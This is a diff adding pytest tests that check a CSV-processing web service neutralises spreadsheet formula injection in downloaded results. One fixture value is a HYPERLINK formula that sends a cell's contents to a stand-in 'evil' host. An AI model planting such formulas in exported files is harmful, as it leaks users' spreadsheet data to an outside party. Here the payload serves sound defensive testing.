@@ -213,6 +213,37 @@ def test_requests_are_listed_newest_first_and_paged(make_settings, image_server)
         assert second.json()["next_cursor"] is None
 
 
+FORMULA_NAMES = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)", "Shirt = blue"]
+
+
+def _downloaded_names(client, image_server) -> list[str]:
+    url = image_server.add(images.jpeg())
+    rows = [(serial, name, [url]) for serial, name in enumerate(FORMULA_NAMES, start=1)]
+    request_id = upload(client, csv_of(rows)).json()["request_id"]
+    wait_finished(client, request_id)
+    table = list(csv.reader(io.StringIO(client.get(f"/download/{request_id}").text)))
+    return [row[1] for row in table[1:]]
+
+
+def test_result_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, image_server):
+    assert _downloaded_names(client, image_server) == [
+        "'" + name if name[0] in "=+-@" else name for name in FORMULA_NAMES
+    ]
+
+
+def test_formula_escaping_can_be_turned_off(make_settings, image_server):
+    with TestClient(create_app(make_settings(csv_escape_formulas=False))) as client:
+        assert _downloaded_names(client, image_server) == FORMULA_NAMES
+
+
+@pytest.mark.parametrize("cell", ["=1+2", "+1", "-1", "@A1", "\tx", "\rx"])
+def test_every_formula_start_is_neutralised(cell):
+    from app.services.csv_input import neutralised
+
+    assert neutralised(cell) == "'" + cell
+    assert neutralised("a" + cell) == "a" + cell
+
+
 def test_unknown_request_is_a_404_problem(client):
     for path in ("/status/nope", "/download/nope", "/requests/nope/webhook-deliveries"):
         response = client.get(path)
